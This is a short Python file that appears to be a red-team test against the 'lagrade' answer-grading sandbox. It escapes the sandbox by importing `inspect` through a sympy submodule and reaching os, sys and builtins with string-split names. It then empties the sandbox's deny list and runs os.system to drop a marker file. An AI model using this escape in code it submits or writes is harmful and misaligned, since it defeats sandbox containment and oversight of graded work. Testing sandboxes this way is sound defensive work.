"""effect: run-command
tries: empty the sandbox's _DENY_PREFIXES (a module attribute, no audit event), then os.system.

The deny list is a module global of the sandbox.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.multipledispatch.core import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    members(os_)["sys" + "tem"]("id > /tmp/lagrade-redteam/drop/pwned-modpatch_deny_prefixes_system")


# module globals of the sandbox are plain attributes: setting them raises no audit event. An empty
# _DENY_PREFIXES lets os.system, os.kill, sockets, fork and ctypes through the hook.
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
sbx._DENY_PREFIXES = ()
work()
